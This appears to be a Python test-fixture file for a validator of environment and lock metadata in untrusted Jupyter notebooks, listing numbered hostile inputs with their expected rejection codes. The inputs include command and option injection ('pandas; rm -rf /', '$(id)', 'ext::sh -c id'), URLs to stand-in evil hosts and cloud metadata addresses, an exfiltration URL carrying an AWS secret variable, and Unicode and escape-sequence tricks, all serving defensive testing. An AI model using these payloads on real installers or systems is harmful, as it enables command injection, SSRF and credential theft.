"""What a stranger's notebook may hold, and what has to be said of it. The numbers are those of the threat model."""

from __future__ import annotations

import json
from typing import Any, NamedTuple

SHA = "ab" * 32
WHEEL = "demo-1.0-py3-none-any.whl"


class Bad(NamedTuple):
    """`block` as in the notebook's metadata."""

    number: str
    block: Any
    code: str


def row(**changes: Any) -> dict[str, Any]:
    return {"name": "demo", "version": "1.0", "wheels": {WHEEL: {"sha256": SHA}}} | changes


def lock(*rows: dict[str, Any], **changes: Any) -> dict[str, Any]:
    about = {"lock-version": "1.0", "created-by": "a stranger", "spec": f"sha256:{SHA}", "requires-python": "==3.12.*"}
    return {"version": 1, "lock": about | {"packages": list(rows)} | changes}


def asks(*dependencies: Any) -> dict[str, Any]:
    return {"version": 1, "dependencies": list(dependencies)}


def from_git(url: str, **more: Any) -> dict[str, Any]:
    return lock({"name": "demo", "version": "1.0", "vcs": {"type": "git", "url": url, "commit-id": "ab" * 20} | more})


def file_of(name: str, **about: Any) -> dict[str, Any]:
    return lock(row(wheels={name: {"sha256": SHA} | about}))


OPTION, CHARSET, PLACE, META, SYNTAX = (
    "req-option-or-path",
    "req-charset",
    "req-direct-url",
    "req-metachar",
    "req-syntax",
)
REQUIREMENTS: dict[str, tuple[Any, str]] = {
    "B6": ("--index-url=http://evil/", OPTION),
    "B7": ("--extra-index-url http://evil/ x", OPTION),
    "B8": ("-r /etc/passwd", OPTION),
    "B9": ("-c http://169.254.169.254/x", OPTION),
    "B10": ("-e .", OPTION),
    "B11": ("--target=/", OPTION),
    "B12": ("--config-settings=a=b", OPTION),
    "B13": (" -e .", OPTION),
    "B14": ("pandas\n--index-url http://evil", CHARSET),
    "B15": ("pandas\r--index-url http://evil", CHARSET),
    "B16": ("pan\0das", CHARSET),
    "B17": ("pandas\t--pre", CHARSET),
    "B18": ("p\u202eandas", CHARSET),
    "B19": ("pаndas", CHARSET),  # noqa: RUF001  # a Cyrillic letter is what this is about
    "B20": ("pan\u200ddas", CHARSET),
    "B21": ("pandas\x1b[2J", CHARSET),
    "B22": ("evil @ https://evil/x.whl", PLACE),
    "B23": ("x @ git+https://evil/x", PLACE),
    "B24": ("x @ git+ssh://git@evil/x", PLACE),
    "B25": ("x @ file:///etc", PLACE),
    "B26": ("x @ https://evil/${AWS_SECRET_ACCESS_KEY}", META),
    "B27": ("./local", OPTION),
    "B28": ("/abs/path.whl", OPTION),
    "B29": ("~/x.whl", OPTION),
    "B30": ("..", OPTION),
    "B32": ("sub/dir", SYNTAX),
    "B33": ("C:\\x.whl", META),
    "B34": ("http://evil/x.whl", SYNTAX),
    "B35": ("pandas # comment", META),
    "B36": ("pandas; rm -rf /", SYNTAX),
    "B37": ("pandas && id", SYNTAX),
    "B38": ("$(id)", META),
    "B39": ("`id`", META),
    "B40": ("pandas | id", SYNTAX),
    "B41": ("", "req-empty"),
    "B42": (1, "req-type"),
    "B43": (None, "req-type"),
    "B44": (["pandas"], "req-type"),
    "B45": ("p" * 600, "req-long"),
    "B47": ("pandas===/etc/passwd", SYNTAX),
    "B48": ("pandas===http://evil/", SYNTAX),
    "B49": ('x; python_version == "\'"\'"', SYNTAX),
    "B50": ("pandas --hash=sha256:" + SHA, SYNTAX),
    "B50a": ("x; " + "(" * 200 + "os_name == 'a'" + ")" * 200, SYNTAX),
    "B50b": ("pandas>=${HOME}", META),
    "X30": ("ghp_0123456789abcdefghij0123456789abcdef", "req-credentials"),
    "X30a": ("x @ https://host/x?token=glpat-0123456789abcdefghij", "req-credentials"),
    "X30b": ("x @ https://user:hunter2@host/x.whl", "req-credentials"),
}  # fmt: skip

BLOCKS: list[Bad] = [
    *(Bad(number, asks("six", value), code) for number, (value, code) in REQUIREMENTS.items()),
    Bad("B46", asks(*(f"p{i}" for i in range(301))), "req-too-many"),
    Bad("B51", {"version": 1, "find_links": "http://evil/"}, "meta-unknown-key"),
    Bad("B52", {"version": 1, "extra_index_url": "http://evil/"}, "meta-unknown-key"),
    Bad("B53", {"version": 1, "env": {"LD_PRELOAD": "x"}}, "meta-unknown-key"),
    Bad("B54", {"version": 1, "post_install": "id"}, "meta-unknown-key"),
    Bad("B54a", {"version": 1, "trusted": True}, "meta-unknown-key"),
    Bad("B54b", {"version": 1, "x\u202e\x1b]0;y\x07": 1}, "meta-unknown-key"),
    Bad("B55", {"version": 1, "indexes": {"https://evil/simple": ["x"]}}, "index-name"),
    Bad("B56", {"version": 1, "indexes": {"https://u:p@evil/": ["x"]}}, "index-name"),
    Bad("B58", {"version": 1, "indexes": {"../x": ["x"]}}, "index-name"),
    Bad("B58a", {"version": 1, "indexes": {"ok": ["--pre"]}}, "package-name"),
    Bad("B59", {"version": 1, "requires-python": "/tmp/evil/python"}, "python-spec"),
    Bad("B60", {"version": 1, "requires-python": "python3"}, "python-spec"),
    Bad("B61", {"version": 1, "requires-python": "https://evil/python.tar.gz"}, "python-spec"),
    Bad("B61a", {"version": 1, "requires-python": "===$(id)"}, "python-spec"),
    Bad("B61b", {"version": 1, "requires-python": "==٣.١٢"}, "python-spec"),
    Bad("B62", {"version": 1, "requires-python": [">=3.11"]}, "meta-shape"),
    Bad("B63", {"version": 2, "anything": 1}, "meta-newer"),
    Bad("B64", {"version": True}, "meta-version"),
    Bad("B65", {"version": "1"}, "meta-version"),
    Bad("B65a", {"version": 1.0}, "meta-version"),
    Bad("B66", [], "meta-shape"),
    Bad("B66a", "version 1", "meta-shape"),
    Bad("B68", asks("six") | {"project": "/etc/passwd"}, "project-path"),
    Bad("B68a", asks("six") | {"project": "a/../../x"}, "project-path"),
    Bad("B68b", asks("six") | {"project": "x" * 100_000}, "project-path"),
    Bad("B69", asks("six") | {"exclude-newer": "2026-02-31"}, "timestamp"),
    Bad("B69a", asks("six") | {"exclude-newer": "٢٠٢٦-01-01"}, "timestamp"),
    Bad("B70", asks("six") | {"conda": {"channels": ["https://evil/"]}}, "conda-channel"),
    Bad("B70a", asks("six") | {"conda": {"dependencies": ["x;id"]}}, "conda-dependency"),
    Bad("B71", from_git("http://host/x"), "url-scheme"),
    Bad("B72", from_git("file:///etc/passwd"), "url-scheme"),
    Bad("B72a", from_git("ext::sh -c id"), "url-scheme"),
    Bad("B73", from_git("https://user:password@host/x"), "url-credentials"),
    Bad("B74", from_git("https://host\\@evil/x"), "url-credentials"),
    Bad("B76", from_git("https://169.254.169.254/latest"), "url-host"),
    Bad("B76a", from_git("https://[fe80::1]/x"), "url-host"),
    Bad("B76b", from_git("https://metadata.google.internal/x"), "url-host"),
    Bad("B76c", from_git("https://2852039166/x"), "url-host"),
    Bad("B76d", from_git("https://[::ffff:169.254.169.254]/x"), "url-host"),
    Bad("B77", from_git("https://0.0.0.0/x"), "url-host"),
    Bad("B78", from_git("https://host:22/x"), "url-host"),
    Bad("B78a", from_git("https://host:99999/x"), "url-host"),
    Bad("B80", from_git("https://host/x?token=secret"), "url-scheme"),
    Bad("B80a", from_git("https://host/x#egg=evil"), "url-scheme"),
    Bad("B81", from_git("https://host/x", **{"commit-id": "main"}), "lock-commit"),
    Bad("B81a", from_git("https://host/x", **{"requested-revision": "--upload-pack=id"}), "lock-revision"),
    Bad("B81b", from_git("https://host/x", subdirectory="../../x"), "lock-revision"),
    Bad("B82", lock(row(url="https://evil/x.whl")), "meta-unknown-key"),
    Bad("B83", lock(row(wheels={WHEEL: {}})), "meta-shape"),
    Bad("B84", file_of(WHEEL, sha256="0" * 32), "lock-hash"),
    Bad("B84a", file_of(WHEEL, md5="0" * 32), "meta-unknown-key"),
    Bad("B85", file_of(WHEEL, sha256="AB" * 32), "lock-hash"),
    Bad("B86", file_of("demo-1.0.tar.gz"), "lock-filename"),
    Bad("B87", file_of("../../demo-1.0-py3-none-any.whl"), "lock-filename"),
    Bad("B87a", file_of("demo-1.0-py3-none-any.whl\n--pre"), "lock-filename"),
    Bad("B87b", file_of("demo-1.0-py3-none-" + "a" * 300 + ".whl"), "lock-filename"),
    Bad("B88", file_of("other-1.0-py3-none-any.whl"), "lock-filename-mismatch"),
    Bad("B89", file_of("demo-2.0-py3-none-any.whl"), "lock-filename-mismatch"),
    Bad("B90", file_of(WHEEL, size=-1), "lock-size"),
    Bad("B91", file_of(WHEEL, size=0), "lock-size"),
    Bad("B92", file_of(WHEEL, size=10**15), "lock-size"),
    Bad("B92a", file_of(WHEEL, size=1.5), "meta-shape"),
    Bad("B93", lock(row(name="../../x")), "package-name"),
    Bad("B94", lock(row(name="De_Mo")), "package-name"),
    Bad("B95", lock(row(version="1.0; id")), "lock-version"),
    Bad("B95a", lock(row(version="9" * 5000)), "lock-version"),
    Bad("B96", lock(row(wheels={})), "lock-files"),
    Bad("B97", lock(row(wheels={f"demo-1.0-{i}-py3-none-any.whl": {"sha256": SHA} for i in range(401)})), "lock-files"),
    Bad("B98", lock(*(row(name=f"p{i}") for i in range(2001))), "lock-too-many"),
    Bad("B98a", lock(*(row(wheels={f"demo-1.0-{i}-{'.'.join('abcdefghij')}-{'.'.join('abcdefghij')}-{'.'.join('abcdefghij')}.whl":
                                   {"sha256": SHA} for i in range(51)}) for _ in range(1))), "lock-too-many"),
    Bad("B99", lock(row(marker="python_version < '4' or")), "lock-marker"),
    Bad("B99a", lock(row(marker="(" * 900 + "os_name == 'a'" + ")" * 900)), "lock-marker"),
    Bad("B99b", lock(row(marker="os_name == '\u202e'")), "lock-marker"),
    Bad("B100", lock(row(), row()), "lock-dup"),
    Bad("B100a", lock(row(), **{"requires-python": ">=3.8"}), "lock-python"),
    Bad("B100b", lock(row(), **{"created-by": "x\x1b]0;owned\x07"}), "lock-text"),
    Bad("B100c", lock(row(), spec="sha256:0"), "lock-spec"),
    Bad("B100d", lock(row(index="https://evil/")), "index-name"),
    Bad("B100e", {"version": 1, "outputs": {"lock": f"sha256:{SHA}", "python": "3\x1b[2J", "platform": "x", "at": "x"}}, "meta-text"),
    Bad("B100f", {"version": 1, "history": [{"at": "x", "did": "\ud800"}]}, "meta-text"),
    Bad("B100k", {"version": 1, "\ud800": 1}, "meta-text"),
    Bad("B100l", {"version": 1, "conda": {"\udfff": 1}}, "meta-text"),
    Bad("B100g", {"version": 1, "history": [{"at": "x", "did": "x", "spec": asks("-e .") | {}}]}, "meta-unknown-key"),
    Bad("B100h", {"version": 1, "history": [{"at": "x", "did": "x", "spec": {"dependencies": ["-e ."]}}]}, OPTION),
    Bad("B100i", {"version": 1, "history": [{"at": "x", "did": "x"}] * 21}, "meta-shape"),
    Bad("B100j", {"version": 1, "history": [{"at": "x", "did": "x", "changed": {"../x": ["1", "2"]}}]}, "package-name"),
]  # fmt: skip

GOOD: dict[str, Any] = {
    "B1": asks("pandas>=2"),
    "B2": asks("Pandas[Excel,b] >= 2 ; python_version < '3.13'"),
    "B3": lock(row()),
    "B31": asks("local.whl"),
}


def notebook(block: Any, **more: Any) -> dict[str, Any]:
    cell = {
        "cell_type": "code",
        "id": "a",
        "metadata": {},
        "source": "open('ran', 'w')",
        "outputs": [],
        "execution_count": None,
    }
    return {"cells": [cell], "metadata": {"jupyter_envs": block}, "nbformat": 4, "nbformat_minor": 5} | more


def written(block: Any, **more: Any) -> bytes:
    """The notebook's file."""
    return json.dumps(notebook(block, **more), indent=1).encode() + b"\n"


def _with(text: str) -> bytes:
    """The file with this text for its block."""
    return written("BLOCK").replace(b'"BLOCK"', text.encode())


HUGE = 10**4290
"""As JSON may write a number, and Python still reads it."""
FILES: dict[str, tuple[bytes, str]] = {
    "B67": (_with('{"version": 1, "dependencies": ["six"], "dependencies": ["evil"]}'), "json-dup-key"),
    "B67a": (
        _with('{"version": 1}').replace(b'"metadata": {\n', b'"metadata": {"jupyter_envs": {"version": 1},\n', 2),
        "json-dup-key",
    ),
    "B67b": (_with('{"version": 1, "lock": {"packages": [{"name": "a", "name": "b"}]}}'), "json-dup-key"),
    "B67c": (_with('{"version": 1, "dep\\u0065ndencies": ["six"], "dependencies": ["evil"]}'), "json-dup-key"),
    "B67d": (_with('{"version": NaN}'), "not-json"),
    "B67e": (_with('{"version": -Infinity}'), "not-json"),
    "B67g": (_with(f'{{"version": {HUGE}}}'), "meta-newer"),
    "B67i": (_with(json.dumps({"version": 1, "a\n" + "9" * 3000: 1})), "meta-unknown-key"),
    "B67h": (_with(f'{{"version": {-HUGE}}}'), "meta-version"),
    "B67f": (_with('{"version": 1, "x": ' + "9" * 5000 + "}"), "not-json"),
    "B101": (_with('{"version": 1, "project": "' + "a" * (5 << 20) + '"}'), "too-big"),
    "B101a": (b"[" * 5_000_000, "too-deep"),
    "B101b": (_with('{"version": 1, "x": ' + "[" * 3000 + "]" * 3000 + "}"), "too-deep"),
    "B101c": (_with('{"version": 1, "x": ' + "[" * 50 + "]" * 50 + "}"), "meta-depth"),
    "B102": ('{"cells": "größe"}'.encode("latin-1"), "not-utf8"),
    "B103": (written(None).decode().encode("utf-16"), "not-utf8"),
    "B104": (b"", "not-json"),
    "B105": (written(asks("six"))[:-20], "not-json"),
    "B106": (b"<<<<<<< HEAD\n" + written(asks("six")) + b"=======\n>>>>>>> x\n", "merge-conflict"),
    "B107": (written(asks("six"), nbformat=3), "nbformat"),
    "B108": (written(asks("six"), nbformat=5), "nbformat"),
    "B108a": (written(asks("six"), nbformat=HUGE), "nbformat"),
    "B108b": (written(asks("six"), nbformat=-HUGE), "nbformat"),
    "B109": (written(asks("six"), nbformat="4"), "not-notebook"),
    "B110": (b"[]", "not-notebook"),
    "B111": (written(None, metadata=None), "not-notebook"),
    "B111a": (written(None, cells=None), "not-notebook"),
}
IDS = ["../../etc", "/etc", "a" * 25, "a" * 27, "a" * 33, "A" * 26, "a" * 25 + "1", "a" * 26 + "\n", "%2e%2e"]
"""B112 to B116: no id of an environment."""
KERNELSPECS = ["../../bin/x", "x" * 300, "Großer", "UPPER", "a b", "a\n", "-x", ".x", "a/b", "\u202ex"]
"""B117 to B121: no name of a kernel."""
